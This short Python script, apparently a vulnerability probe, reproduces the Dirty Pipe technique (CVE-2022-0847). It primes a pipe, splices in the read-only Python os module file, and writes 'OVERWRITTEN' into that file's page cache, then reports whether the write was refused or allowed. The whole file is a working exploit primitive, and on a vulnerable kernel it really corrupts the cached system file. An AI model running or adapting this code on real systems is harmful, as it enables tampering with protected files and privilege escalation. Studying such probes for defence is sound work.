# Writes into the page cache of a read-only file through a pipe.
# source: CVE-2022-0847
# control: none it needs a kernel of 2022
import os

path = os.__file__
with open(path, "rb") as file:
    before = file.read(16)
    reader, writer = os.pipe()
    for _ in range(16):
        os.write(writer, b"x" * 4096)
    for _ in range(16):
        os.read(reader, 4096)
    os.splice(file.fileno(), writer, 1, offset_src=0) if hasattr(os, "splice") else None
    os.write(writer, b"OVERWRITTEN")
with open(path, "rb") as file:
    print("page cache:", "refused (unchanged)" if file.read(16) == before else "ALLOWED (changed)")
